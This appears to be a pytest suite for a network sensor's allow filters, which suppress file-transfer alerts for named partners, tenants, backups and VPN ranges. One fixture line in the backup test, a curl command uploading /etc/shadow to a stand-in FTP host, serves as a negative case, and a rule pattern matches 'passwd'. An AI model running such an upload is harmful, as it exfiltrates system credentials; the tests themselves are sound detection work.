"""False-positive controls: each allow filter under rules/examples/ (a Sigma filter file)
suppresses exactly the case it names and nothing else, until it expires; the loader refuses
what would allow too much or what it does not implement, as one line (exit 2 from the CLI)."""

from __future__ import annotations

import calendar
import json
import logging
import subprocess
import sys
import textwrap
from datetime import date, datetime
from pathlib import Path

import pytest
import yaml

from sensor.core.config import Limits, config_from_dict
from sensor.detect.detector import Detector
from sensor.detect.filters import is_active, load_filters
from sensor.detect.rules import RuleError, load_rule_docs, load_rules
from sensor.io.capture import read_file
from sensor.io.sinks import MemorySink, TeeSink
from sensor.pipeline import Pipeline
from sensor.records.mde import RECORD_FIELDS
from tests.support.craft import tcp_session, write_pcap
from tests.support.tls import openssl_client_hello

REPO = Path(__file__).resolve().parent.parent
EX = REPO / "rules" / "examples"
SHIPPED = load_rules(REPO / "rules", RECORD_FIELDS)
DEV = "10.1.1.5"
T0 = calendar.timegm((2026, 11, 27, 1, 0, 0))
# the examples use documentation ranges; here they stand in for public addresses (as in the demo)
STAND_IN_PUBLIC = {"198.51.100.0/24": "Public", "203.0.113.0/24": "Public"}


EXAMPLES = {
    "mf_allow_partner_cidr.yml": "allow_partner_contoso_cidr",
    "mf_allow_partner_hostname.yml": "allow_partner_fabrikam_hostname",
    "mf_allow_mft_tenant_sni.yml": "allow_mft_tenant_contoso_sni",
    "mf_allow_scheduled_backup.yml": "allow_backup_rclone_offsite",
    "mf_allow_vpn_cgnat.yml": "allow_vpn_cgnat_ranges",
}


def example(name: str):
    """The shipped rules with one example filter applied."""
    return load_rules(REPO / "rules", RECORD_FIELDS, filters=[EX / name])


def fragment(name: str) -> dict:
    """A config fragment of rules/examples/config/ (beside the filters, not among them)."""
    return yaml.safe_load((EX / "config" / name).read_text())


def sessions(
    server: str, port: int = 21, n: int = 4, t: float = T0, c2s: bytes = b"USER backup\r\n", cport: int = 40000
) -> list:
    return sum(
        (tcp_session(DEV, server, cport + i, port, t + i * 600, c2s=c2s, s2c=b"220 hi\r\n") for i in range(n)), []
    )


def run(tmp_path: Path, pkts: list, rules, config: dict) -> dict:
    """The replay's wiring, in process: records, alerts, the pipeline."""
    cfg = config_from_dict(config)
    mem = MemorySink()
    pipe = Pipeline(cfg, rules, TeeSink(mem))
    pcap = write_pcap(tmp_path / f"t{len(list(tmp_path.iterdir()))}.pcap", pkts)
    res = read_file(pcap, pipe.handler_for, pipe.capture_filters(), pipe.refilter)
    assert not res.error
    pipe.finish()
    alerts = [a for a in mem.records["alerts"] if "ConnectionCount" in a]
    return {
        "conns": mem.records["connections"],
        "alerts": alerts,
        "alerted": sorted((a["RemoteIP"], a["RemotePort"]) for a in alerts),
    }


def suppressed(rules, conns) -> list[tuple[str, str]]:
    det = rules.detections[0]
    out = []
    for c in conns:
        v = det.explain(c)
        out += [(c["RemoteIP"], e.name) for e in v.suppressed_by]
    return out


def base_config(**more) -> dict:
    cfg = {"ip_type_overrides": dict(STAND_IN_PUBLIC)}
    for k, v in more.items():
        if k == "ip_type_overrides":
            cfg[k].update(v)
        else:
            cfg[k] = v
    return cfg


# -- what is loaded by default ----------------------------------------------------------------
def test_default_rules_folder_is_unchanged():
    assert len(SHIPPED.detections) == 1 and len(SHIPPED.correlations) == 1
    assert SHIPPED.allow_entries == () and SHIPPED.filters == ()
    assert {Path(d.source).parent for d in SHIPPED.detections} == {REPO / "rules"}


def test_examples_are_filters_not_rules():
    """No copy of the rule under rules/examples/: every .yml there is one filter document."""
    assert sorted(p.name for p in EX.glob("*.yml")) == sorted(EXAMPLES)
    fs = load_filters([EX / n for n in EXAMPLES])
    assert [f.ref for f in fs] == list(EXAMPLES.values())
    assert len({f.id for f in fs}) == len(fs)
    assert {f.id for f in fs}.isdisjoint({d.id for d in SHIPPED.detections} | {c.id for c in SHIPPED.correlations})


def test_the_examples_folder_is_one_filters_argument():
    """`--filters rules/examples` takes the five filters; the config fragments sit in examples/config/,
    which a folder argument does not descend into (a config document is not a filter: refused)."""
    fs = load_filters([EX])
    assert sorted(f.ref for f in fs) == sorted(EXAMPLES.values())
    assert sorted(p.name for p in (EX / "config").iterdir()) == ["partner_hostnames.yaml", "vpn_cgnat.yaml"]
    p = cli("rules", "list", "--filters", str(EX), "--format", "json")
    assert p.returncode == 0, p.stderr
    listed = [f["name"] for r in json.loads(p.stdout) for f in r.get("filters", [])]
    assert sorted(listed) == sorted(EXAMPLES.values())


@pytest.mark.parametrize("name", sorted(EXAMPLES))
def test_every_example_names_the_rule_with_a_reason_and_expiry(name):
    rs = example(name)
    assert [d.id for d in rs.detections] == [d.id for d in SHIPPED.detections]
    (entry,) = rs.allow_entries
    assert entry.name == EXAMPLES[name] and entry.rule_id == SHIPPED.detections[0].id
    f = entry.filter
    assert f.rules == ("xfer_public_file_transfer_connection",) and f.condition == "not selection"
    assert f.reason and f.expires and f.source == str(EX / name)
    assert is_active(f, date.today()), f"{name}: its example filter has expired; move the date"
    # the rule's own detection is untouched: the filter is applied beside it
    assert rs.detections[0].detection == SHIPPED.detections[0].detection


# -- partner destinations by CIDR ------------------------------------------------------------------
def test_partner_cidr_suppresses_only_the_partner(tmp_path):
    pkts = sessions("198.51.100.5") + sessions("198.51.100.20", cport=41000) + sessions("203.0.113.9", cport=42000)
    cfg = base_config()
    shipped = run(tmp_path, pkts, SHIPPED, cfg)
    rs = example("mf_allow_partner_cidr.yml")
    allowed = run(tmp_path, pkts, rs, cfg)
    assert shipped["alerted"] == [("198.51.100.20", 21), ("198.51.100.5", 21), ("203.0.113.9", 21)]
    assert allowed["alerted"] == [("198.51.100.20", 21), ("203.0.113.9", 21)]
    assert suppressed(rs, allowed["conns"]) == [("198.51.100.5", "allow_partner_contoso_cidr")] * 4
    assert rs.allow_entries[0].hits == 4


def test_partner_cidr_expired_filter_stops_matching_and_says_so_once(tmp_path, caplog):
    rs = example("mf_allow_partner_cidr.yml")
    after = calendar.timegm((2027, 7, 1, 0, 0, 1))  # the filter expires 2027-06-30 (inclusive)
    caplog.set_level(logging.WARNING, logger="xfer-sensor.rules")
    r = run(tmp_path, sessions("198.51.100.5", n=6, t=after), rs, base_config())
    assert r["alerted"] == [("198.51.100.5", 21)]
    warnings = [m for m in caplog.messages if "expired" in m]
    assert len(warnings) == 1 and "allow_partner_contoso_cidr" in warnings[0] and "2027-06-30" in warnings[0]
    assert rs.allow_entries[0].expired_hits == 6 and rs.allow_entries[0].hits == 0
    v = rs.detections[0].explain(r["conns"][0])
    assert v.matched and [e.name for e in v.expired] == ["allow_partner_contoso_cidr"] and v.suppressed_by == ()
    # the last day itself is still covered
    rs2 = example("mf_allow_partner_cidr.yml")
    last_day = calendar.timegm((2027, 6, 30, 20, 0, 0))
    assert run(tmp_path, sessions("198.51.100.5", n=4, t=last_day - 4000), rs2, base_config())["alerted"] == []
    # is_active (what an export asks): the date, and a date-time, against the inclusive expiry
    f = rs2.filters[0]
    assert is_active(f, date(2027, 6, 30)) and not is_active(f, date(2027, 7, 1))
    assert is_active(f, datetime(2027, 6, 30, 23, 59, 59)) and not is_active(f, datetime(2027, 7, 1))


# -- partner destinations by host name ---------------------------------------------------------------
def test_partner_hostname_suppresses_only_named_partners(tmp_path):
    names = fragment("partner_hostnames.yaml")["hostnames"]
    pkts = sessions("198.51.100.7") + sessions("203.0.113.9", cport=41000) + sessions("198.51.100.99", cport=42000)
    rs = example("mf_allow_partner_hostname.yml")
    r = run(tmp_path, pkts, rs, base_config(hostnames=names))
    assert r["alerted"] == [("198.51.100.99", 21), ("203.0.113.9", 21)]
    assert suppressed(rs, r["conns"]) == [("198.51.100.7", "allow_partner_fabrikam_hostname")] * 4
    urls = {c["RemoteIP"]: c["RemoteUrl"] for c in r["conns"]}
    assert urls == {
        "198.51.100.7": "sftp.fabrikam.example",
        "203.0.113.9": "files.northwind.example",
        "198.51.100.99": "",
    }
    # the name is what allows: without the hostnames map the partner alerts
    r2 = run(tmp_path, pkts, example("mf_allow_partner_hostname.yml"), base_config())
    assert r2["alerted"] == [("198.51.100.7", 21), ("198.51.100.99", 21), ("203.0.113.9", 21)]
    assert all("RemoteUrl" not in c for c in r2["conns"])  # records unchanged without hostnames


# -- FTPS to a managed-file-transfer tenant by SNI -------------------------------------------------------
def test_mft_sni_suppresses_only_our_tenant(tmp_path):
    ours = openssl_client_hello("contoso.moveitcloud.com")
    theirs = openssl_client_hello("evil.moveitcloud.com")
    nosni = openssl_client_hello(None)
    pkts = (
        sessions("203.0.113.50", 990, c2s=ours)
        + sessions("203.0.113.51", 990, c2s=theirs, cport=41000)
        + sessions("203.0.113.52", 990, c2s=nosni, cport=42000)
        + sessions("203.0.113.53", 21, cport=43000)
    )  # plain FTP, no TLS at all
    rs = example("mf_allow_mft_tenant_sni.yml")
    r = run(tmp_path, pkts, rs, base_config())
    assert r["alerted"] == [("203.0.113.51", 990), ("203.0.113.52", 990), ("203.0.113.53", 21)]
    assert suppressed(rs, r["conns"]) == [("203.0.113.50", "allow_mft_tenant_contoso_sni")] * 4
    snis = {c["RemoteIP"]: c["AdditionalFields"].get("TlsSni") for c in r["conns"]}
    assert snis["203.0.113.50"] == "contoso.moveitcloud.com" and snis["203.0.113.52"] is None
    assert run(tmp_path, pkts, SHIPPED, base_config())["alerted"] == [
        ("203.0.113.50", 990),
        ("203.0.113.51", 990),
        ("203.0.113.52", 990),
        ("203.0.113.53", 21),
    ]


# -- a scheduled backup: process and destination together --------------------------------------------------
def endpoint_record(i: int, process: str, cmdline: str, remote: str, port: int = 21) -> dict:
    ts = f"2026-11-27T0{1 + i}:00:00.000000Z"
    rec = {f: "" for f in RECORD_FIELDS}
    rec.update(
        {
            "Timestamp": ts,
            "FirstSeen": ts,
            "LastSeen": ts,
            "DeviceName": "SRV-BACKUP-1",
            "ActionType": "ConnectionSuccess",
            "LocalIP": "10.0.0.9",
            "LocalPort": 40000 + i,
            "RemoteIP": remote,
            "RemotePort": port,
            "Protocol": "Tcp",
            "LocalIPType": "Private",
            "RemoteIPType": "Public",
            "InitiatingProcessFileName": process,
            "InitiatingProcessId": 900 + i,
            "InitiatingProcessAccountName": "backup",
            "InitiatingProcessCommandLine": cmdline,
            "AccountName": "backup",
            "SentBytes": 1000,
            "ReceivedBytes": 100,
            "Uid": f"C{process}{remote}{i}",
            "Direction": "outbound",
            "Vlan": 0,
            "DataSentBytes": 0,
            "DataReceivedBytes": 0,
            "AdditionalFields": {},
        }
    )
    return rec


def alerts_for(rules, cases) -> list[tuple]:
    """Each case (four connections) on its own detector."""
    out = []
    for process, cmdline, remote in cases:
        det = Detector(rules, Limits())
        for i in range(4):
            rec = endpoint_record(i, process, cmdline, remote)
            for a in det.observe(rec, T0 * 1_000_000 + i * 3_600_000_000):
                if "ConnectionCount" in a:
                    out.append((a["InitiatingProcessFileName"], a["RemoteIP"]))
    return sorted(out)


def test_scheduled_backup_allows_only_process_and_destination_together():
    job = "rclone sync /srv/backup offsite-ftp: --transfers 4"
    cases = [
        ("rclone", job, "198.51.100.20"),  # the job: allowed
        ("rclone", job, "203.0.113.9"),  # same job, another destination
        ("curl", "curl -T /etc/shadow ftp://198.51.100.20/", "198.51.100.20"),  # another process
        ("rclone", "rclone copy /home/alice offsite-ftp:", "198.51.100.20"),
    ]  # another command
    rs = example("mf_allow_scheduled_backup.yml")
    assert alerts_for(SHIPPED, cases) == sorted(
        [("rclone", "198.51.100.20"), ("rclone", "203.0.113.9"), ("curl", "198.51.100.20"), ("rclone", "198.51.100.20")]
    )
    got = alerts_for(rs, cases)
    assert got == sorted([("rclone", "203.0.113.9"), ("curl", "198.51.100.20"), ("rclone", "198.51.100.20")])
    assert rs.allow_entries[0].hits == 4
    v = rs.detections[0].explain(endpoint_record(0, "rclone", job, "198.51.100.20"))
    assert not v.matched and [e.reason for e in v.suppressed_by] == ["Nightly off-site backup (runbook OPS-77)"]


def test_filter_on_process_alone_or_without_destination_is_refused(tmp_path):
    text = (EX / "mf_allow_scheduled_backup.yml").read_text()
    alone = text.replace("    RemoteIP|cidr: 198.51.100.20/32\n    RemotePort: 21\n", "")
    p = tmp_path / "alone.yml"
    p.write_text(alone)
    with pytest.raises(RuleError) as e:
        load_rules(REPO / "rules", RECORD_FIELDS, filters=[p])
    assert e.value.field == "filter.selection" and "process or account alone" in str(e.value)
    assert str(e.value).startswith(f"{p}: filter '0155b55d-1395-4652-a060-5485b980dd79'")
    # a port does not pin the destination either
    port_only = (
        text.replace("    InitiatingProcessFileName: rclone\n", "")
        .replace("    InitiatingProcessCommandLine|contains: 'sync /srv/backup offsite-ftp:'\n", "")
        .replace("    RemoteIP|cidr: 198.51.100.20/32\n", "")
    )
    p.write_text(port_only)
    with pytest.raises(RuleError) as e:
        load_rules(REPO / "rules", RECORD_FIELDS, filters=[p])
    assert e.value.field == "filter.selection" and "pin the destination" in str(e.value)
    # a rule's own filter selection keyed on the process alone is refused too
    doc = yaml.safe_load(textwrap.dedent(RULE % "selection and not filter_a")) | {
        "detection": {"selection": {"RemotePort": 21}, "filter_a": {"InitiatingProcessFileName": "rclone"}}
    }
    doc["detection"]["condition"] = "selection and not filter_a"
    with pytest.raises(RuleError, match="process or account alone"):
        load_rule_docs([("r.yml", 0, doc)], RECORD_FIELDS)


# -- VPN / CGNAT ranges -------------------------------------------------------------------------------
SMB = b"\x00\x00\x00\x04abcd"


def vpn_pkts() -> list:
    return (
        sessions("198.51.100.130", 445, c2s=SMB)
        + sessions("198.51.100.20", 445, c2s=SMB, cport=41000)
        + sessions("100.64.1.2", 445, c2s=SMB, cport=42000)
    )


def test_vpn_cgnat_filter_suppresses_only_the_tunnel(tmp_path):
    """The filter: the hunt stays quiet about the tunnel; the records still say Public."""
    cgnat_public = base_config(ip_type_overrides={"100.64.0.0/10": "Public"})  # as if CGNAT were typed Public
    without = run(tmp_path, vpn_pkts(), SHIPPED, cgnat_public)
    rs = example("mf_allow_vpn_cgnat.yml")
    allowed = run(tmp_path, vpn_pkts(), rs, cgnat_public)
    assert without["alerted"] == [("100.64.1.2", 445), ("198.51.100.130", 445), ("198.51.100.20", 445)]
    assert allowed["alerted"] == [("198.51.100.20", 445)]
    assert sorted(set(suppressed(rs, allowed["conns"]))) == [
        ("100.64.1.2", "allow_vpn_cgnat_ranges"),
        ("198.51.100.130", "allow_vpn_cgnat_ranges"),
    ]
    assert {c["RemoteIPType"] for c in allowed["conns"]} == {"Public"}


def test_vpn_cgnat_config_overrides_type_the_records(tmp_path):
    """The config fragment: the records themselves say Private (every rule, every consumer)."""
    vpn = fragment("vpn_cgnat.yaml")["ip_type_overrides"]
    without = run(tmp_path, vpn_pkts(), SHIPPED, base_config())
    with_vpn = run(tmp_path, vpn_pkts(), SHIPPED, base_config(ip_type_overrides=vpn))
    assert without["alerted"] == [("198.51.100.130", 445), ("198.51.100.20", 445)]
    assert with_vpn["alerted"] == [("198.51.100.20", 445)]
    types = {(c["RemoteIP"]): c["RemoteIPType"] for c in with_vpn["conns"]}
    assert types == {"198.51.100.130": "Private", "198.51.100.20": "Public", "100.64.1.2": "Private"}
    assert {c["RemoteIP"]: c["RemoteIPType"] for c in without["conns"]}["100.64.1.2"] == "Reserved"


# -- where filters come from ---------------------------------------------------------------------------
def test_filters_in_the_rules_folder_by_id_and_for_two_rules(tmp_path):
    """A filter file in the --rules folder is loaded with the rules; a filter may name
    its rules by id, and several rules."""
    d = tmp_path / "rules"
    d.mkdir()
    shipped = (REPO / "rules" / "t1071_002_file_transfer_protocols.yml").read_text()
    (d / "t1071.yml").write_text(shipped)
    second = yaml.safe_load(shipped.split("\n---", 1)[0]) | {"id": "r-2", "name": "second", "title": "second"}
    (d / "second.yml").write_text(yaml.safe_dump(second))
    flt = (EX / "mf_allow_partner_cidr.yml").read_text()
    flt = flt.replace(
        "    - xfer_public_file_transfer_connection\n", "    - 6f0c1f7e-3a52-4f6e-9c1e-2b7d0a8e5c11\n    - second\n"
    )
    (d / "mf_partner.yml").write_text(flt)
    rs = load_rules(d, RECORD_FIELDS)
    assert [[e.name for e in det.filters] for det in rs.detections] == [["allow_partner_contoso_cidr"]] * 2
    assert len(rs.filters) == 1 and len(rs.allow_entries) == 2
    rec = {"RemotePort": 21, "RemoteIPType": "Public", "ActionType": "ConnectionSuccess", "RemoteIP": "198.51.100.5"}
    assert not any(det.match(rec) for det in rs.detections)
    assert all(det.match(rec | {"RemoteIP": "198.51.100.99"}) for det in rs.detections)
    assert [e.hits for e in rs.allow_entries] == [1, 1]


def test_config_filters_are_relative_to_the_config_file(tmp_path):
    (tmp_path / "conf").mkdir()
    (tmp_path / "conf" / "allow").mkdir()
    (tmp_path / "conf" / "allow" / "mf_partner.yml").write_text((EX / "mf_allow_partner_cidr.yml").read_text())
    cfg = tmp_path / "conf" / "sensor.yaml"
    cfg.write_text("filters: [allow]\n")
    p = cli("check", "--config", str(cfg))
    assert p.returncode == 0, p.stderr
    assert "1 allow filter from" in p.stdout
    p = cli("check", "--config", str(cfg), "--filters", str(EX / "mf_allow_vpn_cgnat.yml"))
    assert p.returncode == 0 and "2 allow filters from" in p.stdout, p.stderr
    cfg.write_text("filters: {a: b}\n")
    p = cli("check", "--config", str(cfg))
    assert p.returncode == 2 and "filters" in p.stderr and len(p.stderr.splitlines()) == 1


# -- what the loader refuses -------------------------------------------------------------------------------
RULE = """
title: t
id: r-1
name: det
logsource: {category: network_connection, product: xfer-sensor}
detection:
  selection: {RemotePort: 21}
  condition: %s
"""
CORRELATION = {
    "title": "c",
    "id": "c-1",
    "name": "corr",
    "correlation": {
        "type": "event_count",
        "rules": ["det"],
        "group-by": ["RemoteIP"],
        "timespan": "1h",
        "condition": {"gt": 1},
    },
}
FILTER = {
    "title": "f",
    "id": "f-1",
    "name": "allow_x",
    "logsource": {"category": "network_connection"},
    "filter": {"rules": ["det"], "selection": {"RemoteIP|cidr": "198.51.100.0/24"}, "condition": "not selection"},
    "reason": "x",
    "expires": "2030-01-31",
}


def _with(path: str, value) -> dict:
    doc = yaml.safe_load(yaml.safe_dump(FILTER))
    node = doc
    keys = path.split("/")
    for k in keys[:-1]:
        node = node[k]
    if value is None:
        del node[keys[-1]]
    else:
        node[keys[-1]] = value
    return doc


REFUSED = [
    ("unknown rule", _with("filter/rules", ["nope"]), "filter.rules", "no loaded detection rule named 'nope'"),
    ("correlation", _with("filter/rules", ["corr"]), "filter.rules", "is a correlation rule"),
    ("any rule", _with("filter/rules", "any"), "filter.rules", "'any'"),
    ("no rules", _with("filter/rules", None), "filter.rules", "required"),
    ("narrows", _with("filter/condition", "selection"), "filter.condition", "only negates"),
    ("or not", _with("filter/condition", "not selection or selection"), "filter.condition", "only negates"),
    ("unused", _with("filter/other", {"RemoteIP": "192.0.2.1"}), "filter.other", "not used by the condition"),
    ("no condition", _with("filter/condition", None), "filter.condition", "required"),
    ("no selection", _with("filter/selection", None), "filter", "no selection"),
    ("unknown field", _with("filter/selection", {"RemoteIp": "192.0.2.1"}), "filter.RemoteIp", "unknown field"),
    (
        "nested field",
        _with("filter/selection", {"AdditionalFields.TlsSNI": "x"}),
        "filter.AdditionalFields.TlsSNI",
        "unknown field",
    ),
    ("modifier", _with("filter/selection", {"RemoteIP|base64": "x"}), "filter.RemoteIP|base64", "unsupported modifier"),
    ("bad condition", _with("filter/condition", "not (selection"), "filter.condition", "unexpected end"),
    (
        "everything v4",
        _with("filter/selection", {"RemoteIP|cidr": "0.0.0.0/0"}),
        "filter.selection",
        "pin the destination",
    ),
    (
        "everything v6",
        _with("filter/selection", {"RemoteIP|cidr": ["198.51.100.0/24", "::/0"]}),
        "filter.selection",
        "pin the destination",
    ),
    ("star", _with("filter/selection", {"RemoteUrl": "*"}), "filter.selection", "pin the destination"),
    (
        "contains nothing",
        _with("filter/selection", {"AdditionalFields.TlsSni|contains": ""}),
        "filter.selection",
        "pin the destination",
    ),
    ("exists", _with("filter/selection", {"RemoteIP|exists": True}), "filter.selection", "pin the destination"),
    (
        "one alternative",
        _with("filter/selection", [{"RemoteIP": "192.0.2.1"}, {"RemotePort": 21}]),
        "filter.selection",
        "pin the destination",
    ),
    ("unknown key", _with("owner", "me"), "owner", "unknown key"),
    ("x-allow", _with("x-allow", {"selection": {"reason": "x"}}), "x-allow", "unknown key"),
    ("no reason", _with("reason", None), "reason", "required"),
    ("empty reason", _with("reason", " "), "reason", "required"),
    ("bad expiry", _with("expires", "someday"), "expires", "date"),
    ("bad date", _with("date", "2026-13-45"), "date", "YYYY-MM-DD"),
    ("no title", _with("title", None), "title", "required"),
    ("no id", _with("id", None), "id", "required"),
    ("logsource", _with("logsource", {"category": "process_creation"}), "logsource.category", "does not cover"),
    ("logsource key", _with("logsource", {"categry": "network_connection"}), "logsource.categry", "unknown key"),
    ("same id", _with("id", "r-1"), "id", "duplicate id"),
    ("same name", _with("name", "det"), "name", "duplicate name"),
    ("filter a list", _with("filter", ["x"]), "filter", "must be a mapping"),
]


@pytest.mark.parametrize("doc,field,words", [c[1:] for c in REFUSED], ids=[c[0] for c in REFUSED])
def test_filter_validation(doc, field, words):
    rule = yaml.safe_load(textwrap.dedent(RULE % "selection"))
    with pytest.raises(RuleError) as e:
        load_rule_docs([("r.yml", 0, rule), ("r.yml", 1, CORRELATION), ("f.yml", 0, doc)], RECORD_FIELDS)
    assert e.value.field == field and words in str(e.value), str(e.value)
    assert str(e.value).startswith("f.yml: filter ") and "\n" not in str(e.value)


def test_the_valid_filter_loads_and_suppresses():
    rule = yaml.safe_load(textwrap.dedent(RULE % "selection"))
    rs = load_rule_docs([("r.yml", 0, rule), ("r.yml", 1, CORRELATION), ("f.yml", 0, FILTER)], RECORD_FIELDS)
    m = rs.detections[0].match
    assert m({"RemotePort": 21, "RemoteIP": "192.0.2.1"})
    assert not m({"RemotePort": 21, "RemoteIP": "198.51.100.1"})
    assert not m({"RemotePort": 22, "RemoteIP": "192.0.2.1"})


def cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "sensor", *args], cwd=REPO, capture_output=True, text=True, timeout=60)


def test_bad_filter_files_are_one_line_exit_2_on_every_command(tmp_path):
    bad = tmp_path / "mf_bad.yml"
    bad.write_text(yaml.safe_dump(_with("filter/rules", ["no_such_rule"])))
    pcap = write_pcap(tmp_path / "x.pcap", sessions("203.0.113.9", n=1))
    for args in (
        ("check", "--filters", str(bad)),
        ("rules", "list", "--filters", str(bad)),
        ("rules", "test", "xfer_public_file_transfer_connection", str(pcap), "--filters", str(bad)),
        ("replay", str(pcap), "--filters", str(bad)),
    ):
        p = cli(*args)
        lines = p.stderr.splitlines()
        assert p.returncode == 2 and len(lines) == 1, (args, p.stderr)
        assert lines[0] == (
            f"xfer-sensor: error: {bad}: filter 'f-1': field 'filter.rules': no loaded detection rule named "
            "'no_such_rule'"
        )
    # a rule document given as a filter file, a missing path
    p = cli("check", "--filters", str(REPO / "rules" / "t1071_002_file_transfer_protocols.yml"))
    assert p.returncode == 2 and "not a Sigma filter document" in p.stderr and len(p.stderr.splitlines()) == 1
    p = cli("check", "--filters", str(tmp_path / "missing"))
    assert p.returncode == 2 and "no such file or folder" in p.stderr and len(p.stderr.splitlines()) == 1


def test_rule_filter_selections_still_work():
    """A rule's own `selection and not filter` is plain Sigma and still supported (no reason, no expiry)."""
    rule = yaml.safe_load(textwrap.dedent(RULE % "selection and not filter_a"))
    rule["detection"]["filter_a"] = {"RemoteIP|cidr": "198.51.100.0/24"}
    rs = load_rule_docs([("r.yml", 0, rule)], RECORD_FIELDS)
    assert rs.detections[0].match({"RemotePort": 21, "RemoteIP": "192.0.2.1"})
    assert not rs.detections[0].match({"RemotePort": 21, "RemoteIP": "198.51.100.1"})
    assert rs.allow_entries == ()
    rule["x-allow"] = {"filter_a": {"reason": "x"}}
    with pytest.raises(RuleError, match="field 'x-allow': unknown key"):
        load_rule_docs([("r.yml", 0, rule)], RECORD_FIELDS)


def test_dotted_and_list_fields_match():
    doc = yaml.safe_load(
        textwrap.dedent("""
        title: t
        id: r-2
        logsource: {category: network_connection}
        detection:
          sni: {AdditionalFields.TlsSni|endswith: .example}
          files: {AdditionalFields.Files|contains: passwd}
          condition: sni or files
    """)
    )
    m = load_rule_docs([("r.yml", 0, doc)], RECORD_FIELDS).detections[0].match
    assert m({"AdditionalFields": {"TlsSni": "a.example"}})
    assert m({"AdditionalFields": {"Files": ["x", "etc/passwd.bak"]}})
    assert not m({"AdditionalFields": {"Files": ["x"], "TlsSni": "a.example.org"}})
    assert not m({"AdditionalFields": {}}) and not m({})
